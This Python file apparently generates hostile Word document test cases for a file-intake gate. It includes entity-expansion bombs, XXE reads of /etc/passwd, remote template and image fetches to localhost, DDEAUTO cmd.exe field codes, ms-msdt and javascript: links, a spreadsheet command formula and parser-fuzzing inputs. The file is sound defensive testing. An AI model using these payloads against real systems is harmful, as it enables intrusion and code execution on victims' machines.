"""Word packages whose content attacks, fetches, starts or overwhelms something."""

import random
from collections.abc import Iterator
from copy import deepcopy
from functools import partial

from hostile import (
    ANY,
    DAMAGED,
    DOCTYPE,
    MAIN,
    READ,
    STRUCTURE,
    Case,
    appended,
    flipped,
    intake_parts,
    noise,
    replaced,
)
from lxml import etree
from packages import W, document, form, paragraph, related, row, table

_LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha" * 10}">' for n in range(10))
_PROLOGS = {
    "billion laughs": f"<!DOCTYPE w [{_LAUGHS}]>",
    "quadratic": f'<!DOCTYPE w [<!ENTITY a "{"a" * 100_000}">]>',
    "local file": '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "http": '<!DOCTYPE w SYSTEM "http://127.0.0.1:9/x.dtd">',
    "parameter": '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>',
}
_COMPATIBLE = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
_BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
_INSERTED = (
    '</w:t></w:r><w:ins w:id="{n}" w:author="A{n}"><w:r><w:t>x</w:t></w:r></w:ins><w:r><w:t>'
)


def cases() -> Iterator[Case]:
    """All of them."""
    for family in (_entities, _nesting, _from_elsewhere, _fields, _odd_forms, _damaged):
        yield from family()


def _entities() -> Iterator[Case]:
    for part in (
        MAIN, "word/styles.xml", "word/settings.xml", "word/footer1.xml", "docProps/core.xml",
        "docProps/custom.xml", "[Content_Types].xml", "_rels/.rels",
        "word/_rels/document.xml.rels", "word/theme/theme1.xml",
    ):  # fmt: skip
        for name, prolog in _PROLOGS.items():
            yield Case(f"{name} in {part}", DOCTYPE, partial(_prolog, part, prolog))
    laughs = _PROLOGS["billion laughs"]
    yield Case("laughs in utf-16", DOCTYPE, partial(_prolog, MAIN, laughs, "utf-16"))
    for encoding in ("utf-7", "cp037", "utf-32"):
        yield Case(f"laughs in {encoding}", ANY, partial(_prolog, MAIN, laughs, encoding))
    yield Case("an entity nobody declared", DAMAGED, partial(form, paragraph("&xxe;")))
    style = '<?xml-stylesheet href="http://127.0.0.1:9/x"?>'
    yield Case("a style sheet from elsewhere", READ, partial(_prolog, MAIN, style))


def _prolog(part: str, prolog: str, encoding: str = "utf-8") -> bytes:
    text = intake_parts()[part].decode()
    start = text.index("?>") + 2 if text.startswith("<?xml") else 0
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return replaced(part, (head + prolog + text[start:]).encode(encoding, "xmlcharrefreplace"))


def _nesting() -> Iterator[Case]:
    for element in ("w:sdt", "w:tbl", "w:p", "w:ins", "mc:AlternateContent"):
        for depth in (101, 300, 5_000):
            inner = f"<{element}>" * depth + f"</{element}>" * depth
            main = document(inner, namespaces=f"{W} {_COMPATIBLE}")
            yield Case(f"{depth} × {element}", STRUCTURE, partial(replaced, MAIN, main))
    for depth in (5, 25):
        nested = paragraph("diep")
        for _ in range(depth):
            nested = table(f"<w:tr><w:tc>{nested}{paragraph('')}</w:tc></w:tr>")
        yield Case(f"{depth} nested tables", READ, partial(appended, nested))
    for name in ("gridSpan", "gridBefore", "gridAfter"):
        for value in ("64", "2000000000", "-1", "1e9", "", "٣٣٣", "9" * 5_000):
            cell = f'<w:tc><w:tcPr><w:{name} w:val="{value}"/></w:tcPr>{paragraph("x")}</w:tc>'
            wide = table(f"<w:tr>{cell}</w:tr>")
            yield Case(f"{name} {value[:12]!r}", STRUCTURE, partial(appended, wide))


def _from_elsewhere() -> Iterator[Case]:
    for kind, target, variant in (
        ("hyperlink", "file:///c:/windows/system32/calc.exe", "hyperlink"),
        ("hyperlink", "\\\\127.0.0.1\\deel\\x", "hyperlink"),
        ("hyperlink", "//127.0.0.1/deel", "hyperlink"),
        ("hyperlink", "javascript:alert(1)", "hyperlink"),
        ("hyperlink", " JavaScript:alert(1)", "hyperlink"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic", "hyperlink"),
        ("hyperlink", "search-ms:query=x", "hyperlink"),
        ("hyperlink", "%5C%5C127.0.0.1%5Cdeel", "hyperlink"),
        ("attachedTemplate", "http://127.0.0.1:9/x.dotm", "template"),
        ("attachedTemplate", "https://sjabloon.example/x.dotm", "template"),
        ("attachedTemplate", "mhtml:http://127.0.0.1:9/x!x", "template"),
        ("image", "http://127.0.0.1:9/pixel.png", "picture"),
        ("image", "file:///etc/passwd", "picture"),
        ("image", "\\\\127.0.0.1\\x.png", "picture"),
        ("oleObject", "http://127.0.0.1:9/x.html!", "link"),
        ("frame", "http://127.0.0.1:9/", "link"),
        ("subDocument", "file:///x.docx", "link"),
        ("mailMergeSource", "file:///c:/lijst.mdb", "link"),
        ("styles", "http://127.0.0.1:9/styles.xml", "link"),
        ("header", "http://127.0.0.1:9/h.xml", "link"),
        ("officeDocument", "http://127.0.0.1:9/d.xml", "link"),
    ):
        linked = partial(related, (kind, target, True))
        yield Case(f"{kind} {target}", f"file.unsafe/{variant}", linked)
    for kind, ends in (
        ("vbaProject", "file.macros"), ("oleObject", "file.unsafe/object"),
        ("control", "file.unsafe/object"), ("aFChunk", "file.unsafe/import"),
        ("subDocument", "file.unsafe/import"), ("package", "file.unsafe/package"),
    ):  # fmt: skip
        yield Case(kind, ends, partial(related, (kind, "x.bin", False)))
    project = partial(replaced, "word/vbaProject.bin", b"x")
    yield Case("macros without their type", "file.macros", project)
    for name, target, ends in (
        ("a part of itself", "document.xml", ANY),
        ("a part that is not there", "../../NULL", ANY),
        ("a target that is no address", "http://[", DAMAGED),
    ):
        yield Case(name, ends, partial(related, ("header", target, False)))


def _fields() -> Iterator[Case]:
    for instruction in (
        'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"', 'DDE "cmd" "x"', "dDeAuTo x y",
        'INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d', 'INCLUDETEXT "file:///etc/passwd"',
        "INCLUDE x", 'IMPORT "http://127.0.0.1:9/x"', 'LINK Excel.Sheet.8 "c:\\x.xls"',
        "MACROBUTTON AutoOpen Klik",
    ):  # fmt: skip
        whole = _instruction(f" {instruction}")
        quoted = instruction.replace('"', "&quot;")
        for name, runs in (
            ("whole", _BEGIN + whole),
            ("sign by sign", _BEGIN + "".join(map(_instruction, instruction))),
            ("simple", f'<w:fldSimple w:instr="{quoted}"/>'),
            ("nested", _BEGIN + _instruction(" IF 1=1 ") + _BEGIN + whole),
        ):
            field = partial(appended, f"<w:p>{runs}</w:p>")
            yield Case(f"{instruction.split()[0]} {name}", "file.unsafe/field", field)
    footer = f"<w:ftr {W}><w:p>{_BEGIN}{_instruction('DDE x')}</w:p></w:ftr>"
    hidden = partial(replaced, "word/footer1.xml", footer.encode())
    yield Case("DDE in a footer", "file.unsafe/field", hidden)


def _instruction(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _odd_forms() -> Iterator[Case]:
    bare = f"<w:document {W}/>".encode()
    yield Case("no body", ANY, partial(replaced, MAIN, bare))
    yield Case("an empty body", ANY, partial(replaced, MAIN, document("")))
    merged = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>"
    for name, rows in {
        "template code": row("1.1", "Functie", "{{ 7*7 }} {% for x in y %} {{ cycler.__init__ }}"),
        "a formula": row("1.1", "Functie", "=cmd|'/c calc'!A1"),
        "marks that turn text around": row("1.1", "Functie", "\u202ereknalp\u202c \u2066x"),
        "a number a million digits long": row("8.5", "Beslissing", "9" * 1_000_000),
        "a date of the year 999999": row("1.4", "Start", "1/1/999999"),
        "rows for every number": "".join(row(f"{n // 60}.{n % 60}", "x", "y") for n in range(3600)),
        "every answer twice": "".join(row(f"1.{n}", "Vraag", "weer") for n in range(1, 8)) * 2,
        "3,000 cells in a row": row("1.1", *["x"] * 3_000),
        "no cells": "<w:tr/>" * 500,
        "cells without text": "<w:tr><w:tc/><w:tc/></w:tr>" * 500,
        "a merge with nothing above": f"<w:tr>{merged * 3}</w:tr>",
        "a number of other digits": row("١.١", "Functie", "x"),
        "a 100 kB question": row("1.1", noise(100_000), "x"),
        "a 1 MB answer": row("10.1", "Andere", noise(1_000_000)),
        "an answer of combining marks": row("6.1", "x", "e" + "\u0301" * 50_000),
        "an answer of line breaks": row("6.1", "x", "</w:t><w:br/><w:t>" * 20_000),
        "an answer full of brackets": row("2.1", "(" * 50_000, "[" * 50_000, "a@b.example"),
        "an address that never ends": row("2.1", "An", "recruiter", "a@" * 50_000, "nl"),
        "200 authors": row("1.1", "x", "".join(_INSERTED.format(n=n) for n in range(200))),
    }.items():
        yield Case(name, ANY, partial(form, table(rows)))
        yield Case(f"{name}, in a whole form", READ, partial(appended, table(rows)))


def _damaged() -> Iterator[Case]:
    for seed in range(60):
        yield Case(f"bits of the text turned, seed {seed}", ANY, partial(_flipped, seed))
        yield Case(f"pieces of the text moved, seed {seed}", ANY, partial(_shuffled, seed))


def _flipped(seed: int) -> bytes:
    part = random.Random(seed).choice([MAIN, MAIN, *intake_parts()])
    return replaced(part, flipped(intake_parts()[part], seed, 1 + seed % 4))


def _shuffled(seed: int) -> bytes:
    """Elements of the main part taken out, doubled or put elsewhere: XML that no program writes,
    so that it passes the gate and reaches the reader."""
    chance = random.Random(seed)
    root = etree.fromstring(intake_parts()[MAIN])
    for _ in range(1 + seed % 8):
        nodes = list(root.iter())[2:]
        node, place = chance.choice(nodes), chance.choice(nodes)
        if chance.random() < 0.5 or node in place.iterancestors():
            node = deepcopy(node)
        if node is not place:
            place.insert(chance.randint(0, len(place)), node)
        if chance.random() < 0.3:
            place.clear()
    return replaced(MAIN, etree.tostring(root))
